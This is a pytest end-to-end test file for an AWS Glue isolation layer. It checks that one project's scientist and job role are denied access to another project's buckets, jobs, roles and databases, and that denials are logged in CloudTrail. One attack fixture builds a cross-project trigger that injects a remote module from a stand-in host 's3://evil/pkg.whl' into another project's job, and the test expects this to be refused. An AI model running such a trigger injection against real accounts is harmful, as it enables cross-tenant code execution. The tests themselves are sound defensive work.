"""Isolation in the sandbox, IAM evaluated: two projects provisioned by the deployed state machine, then A's
scientist (signed in through IAM Identity Center with A's permission set) and A's job role (the session Glue gets
for a run) against B's resources. Each denial is paired with the same call on A's own resource succeeding,
so IAM is shown to decide, not merely to refuse."""

from __future__ import annotations

import pytest
from glueguard.glue_triggers import TriggerRefused, create

from tests.e2e.conftest import ACCOUNT, SandboxHandle, job_definition, provisioned_project, scientist_session
from tests.support.denials import denied


@pytest.fixture(scope="module")
def projects(sandbox: SandboxHandle):
    a, b = provisioned_project(sandbox), provisioned_project(sandbox)
    glue, s3 = (sandbox.client(s) for s in ("glue", "s3"))
    for project in (a, b):
        glue.create_job(**job_definition(project, "existing"))
        s3.put_object(Bucket=project.names.scripts_bucket, Key="existing.py", Body=b"print(1)")
    scientist = scientist_session(sandbox, a, "alice")
    job_role = sandbox.post("service-session", {"roleArn": a.resources.job_role_arn, "service": "glue.amazonaws.com"})
    return a, b, scientist, job_role


def test_a_job_role_reads_and_writes_only_its_own_buckets(sandbox: SandboxHandle, projects):
    a, b, _, job_role = projects
    s3 = sandbox.client("s3", job_role)
    assert s3.get_object(Bucket=a.names.scripts_bucket, Key="existing.py")["Body"].read() == b"print(1)"
    s3.put_object(Bucket=a.names.bucket("artifacts"), Key="out/part-0", Body=b"x")
    for purpose in ("scripts", "temp", "artifacts"):
        denied(s3.put_object, Bucket=b.names.bucket(purpose), Key="stolen", Body=b"x", because="s3:PutObject")
        denied(s3.list_objects_v2, Bucket=b.names.bucket(purpose), because="s3:ListBucket")
    denied(s3.get_object, Bucket=b.names.scripts_bucket, Key="existing.py", because="s3:GetObject")


def test_a_scientist_passes_only_a_roles_inside_a_network(sandbox: SandboxHandle, projects):
    a, b, scientist, _ = projects
    glue = sandbox.client("glue", scientist)
    glue.create_job(**job_definition(a, "mine"))  # A's role, A's network: allowed
    admin = f"arn:aws:iam::{ACCOUNT}:role/glueguard/admin"
    denied(glue.create_job, **job_definition(a, "borrowed-role", role=b.resources.job_role_arn), because="iam:PassRole")
    denied(glue.create_job, **job_definition(a, "admin-role", role=admin), because="iam:PassRole")
    denied(
        glue.create_job, **job_definition(a, "other-network", connection=b.connection_name), because="glue:CreateJob"
    )
    denied(glue.create_job, **job_definition(b, "planted"), because="glue:CreateJob")  # a job in B's namespace


def test_a_scientist_cannot_touch_b_glue_resources(sandbox: SandboxHandle, projects):
    a, b, scientist, _ = projects
    glue = sandbox.client("glue", scientist)
    mine, theirs = a.names.resource("job", "existing"), b.names.resource("job", "existing")
    assert glue.get_job(JobName=mine)["Job"]["Name"] == mine
    glue.start_job_run(JobName=mine)
    denied(glue.get_job, JobName=theirs, because="glue:GetJob")
    denied(glue.start_job_run, JobName=theirs, because="glue:StartJobRun")
    denied(glue.delete_job, JobName=theirs, because="glue:DeleteJob")
    denied(glue.get_tags, ResourceArn=f"arn:aws:glue:us-east-1:{ACCOUNT}:job/{theirs}", because="glue:GetTags")
    assert glue.get_database(Name=a.names.database)["Database"]["Name"] == a.names.database
    denied(glue.get_database, Name=b.names.database, because="glue:GetDatabase")
    denied(glue.get_tables, DatabaseName=b.names.database, because="glue:GetTables")
    assert sandbox.client("glue").get_job(JobName=theirs)["Job"]["Name"] == theirs  # still there


def test_a_scientist_cannot_make_a_trigger_that_runs_another_projects_job(sandbox: SandboxHandle, projects):
    """Issue #12 item 2: CreateTrigger is authorised on the trigger's ARN only, so the actions are the plane's to
    check; A's scientist is refused at the call, and the plane's path refuses the same request."""
    a, b, scientist, _ = projects
    theirs = b.names.resource("job", "existing")
    attack = {
        "Name": a.names.resource("trigger", "innocent"),
        "Type": "ON_DEMAND",
        "Actions": [{"JobName": theirs, "Arguments": {"--additional-python-modules": "s3://evil/pkg.whl"}}],
    }
    admin = sandbox.client("glue")
    before = len(admin.get_job_runs(JobName=theirs)["JobRuns"])
    denied(sandbox.client("glue", scientist).create_trigger, **attack, because="glue:CreateTrigger")
    with pytest.raises(TriggerRefused, match="not a job of the project"):
        create(admin, attack, a)
    assert attack["Name"] not in admin.list_triggers()["TriggerNames"]
    assert len(admin.get_job_runs(JobName=theirs)["JobRuns"]) == before


def test_a_trigger_made_on_the_plane_path_fires_the_projects_own_job(sandbox: SandboxHandle, projects):
    """The legitimate use beside the attack: the operator makes A's trigger on the checked path, and A's scientist
    fires it, which runs A's job (the run names its trigger)."""
    a, _, scientist, _ = projects
    admin = sandbox.client("glue")
    mine = admin.create_job(**job_definition(a, "triggered"))["Name"]  # "existing" may be running already
    trigger = {"Name": a.names.resource("trigger", "nightly"), "Type": "ON_DEMAND", "Actions": [{"JobName": mine}]}
    create(admin, trigger, a)
    sandbox.client("glue", scientist).start_trigger(Name=trigger["Name"])
    [run] = admin.get_job_runs(JobName=mine)["JobRuns"]
    assert run.get("TriggerName") == trigger["Name"]


def test_a_denial_is_logged_by_cloudtrail_with_its_error_code(sandbox: SandboxHandle, projects, events):
    """A refused mutating call still reaches EventBridge as a CloudTrail event, with errorCode and errorMessage."""
    _, b, scientist, _ = projects
    url = events.capture(
        {"source": ["aws.glue"], "detail": {"eventName": ["DeleteJob"], "errorCode": [{"exists": True}]}}
    )
    theirs = b.names.resource("job", "existing")
    message = denied(sandbox.client("glue", scientist).delete_job, JobName=theirs, because="glue:DeleteJob")
    got = events.receive(url)
    assert len(got) == 1
    detail = got[0]["body"]["detail"]
    assert detail["errorCode"] == "AccessDeniedException" and detail["errorMessage"] == message
    role = scientist_role(sandbox, scientist)
    assert detail["userIdentity"]["arn"] == f"arn:aws:sts::{ACCOUNT}:assumed-role/{role}/alice"
    issuer = detail["userIdentity"]["sessionContext"]["sessionIssuer"]
    assert issuer["arn"] == f"arn:aws:iam::{ACCOUNT}:role/aws-reserved/sso.amazonaws.com/{role}"
    assert detail["responseElements"] is None


def scientist_role(sandbox: SandboxHandle, credentials: dict[str, str]) -> str:
    """The permission set's AWSReservedSSO_ role behind a signed-in scientist's session."""
    arn = sandbox.client("sts", credentials).get_caller_identity()["Arn"]
    return str(arn.split(":assumed-role/", 1)[1].split("/")[0])
